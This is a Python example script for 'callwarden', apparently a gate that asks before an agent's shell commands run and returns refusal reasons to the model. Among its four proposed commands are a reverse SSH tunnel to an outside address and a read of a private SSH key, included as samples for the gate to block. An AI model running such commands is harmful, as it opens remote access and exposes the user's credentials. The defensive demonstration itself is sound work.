"""An agent of your own that asks before it acts. Run it behind the gate:

    callwarden run -- python examples/guarded_agent.py

It proposes four commands, as a model would. Each one is asked about first; a refusal's reason and help go back to the
model instead of an output, so that it can do something else.
"""

from __future__ import annotations

import itertools
import subprocess

from callwarden.client import Client

PROPOSED = (
    "echo hello > greeting.txt && cat greeting.txt",
    "python3 -c 'print(6 * 7)'",
    "ssh -fNR 2222:localhost:22 tunnel@203.0.113.7",
    "cat ~/.ssh/id_ed25519",
)


def guarded(gate: Client, call_id: str, command: str) -> str:
    """What the model gets to see: the output, or why there is none."""
    answer = gate.decide({"id": call_id, "kind": "shell", "command": command})
    if not answer["run"]:
        finding = answer["finding"]
        return f"refused by {finding['rule']}: {finding['reason']} {finding['help']}"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=60, check=False)
    gate.complete(call_id, {"exit": done.returncode, "bytes": len(done.stdout)})
    return done.stdout.strip()


def main() -> None:
    with Client.connect() as gate:
        for number, command in zip(itertools.count(1), PROPOSED, strict=False):
            print(f"$ {command}\n  {guarded(gate, f'c{number}', command)}")


if __name__ == "__main__":
    main()
